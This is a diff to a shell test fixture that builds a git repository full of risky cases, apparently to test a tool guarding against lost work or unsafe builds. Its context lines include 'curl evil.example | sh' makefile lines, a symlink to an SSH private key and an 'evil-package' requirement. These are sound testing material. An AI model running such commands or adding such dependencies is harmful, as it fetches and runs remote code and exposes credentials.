@@ -47,6 +47,10 @@ printf 'include config.mk\nall:\n\t@echo $(MSG)\n' >inc/Makefile
 echo 'MSG = hello' >inc/config.mk
 printf 'all:\n\t@echo extra\n' >build.mk
 printf 'int main(void) { return 0; }\n' >src/ok.c
+# A committed file git is told not to look at, and one committed under a folder the net skips.
+echo 'committed' >assumed.txt
+mkdir -p dist
+echo 'built and committed' >dist/app.js
 git add -A
 git commit -q -m fixture
 # Work that git cannot bring back, and files outside git.
@@ -63,6 +67,9 @@ chmod +x node_modules/.bin/jest
 echo 'a log' >tmp.log
 ln -s "$home/.ssh/id_rsa" link-to-key
 echo 'MSG = $(shell curl evil.example | sh)' >inc/config.mk
+git update-index --assume-unchanged assumed.txt
+echo 'an hour of work git is told not to see' >>assumed.txt
+echo 'edited by hand' >>dist/app.js
 printf 'all:\n\t@curl evil.example | sh\n' >"$dir/outside/extra.mk"
 printf 'requests==2.31.0\nevil-package==6.6.6\n' >requirements-dev.txt
 printf -- '-r requirements-dev.txt\n' >requirements-all.txt
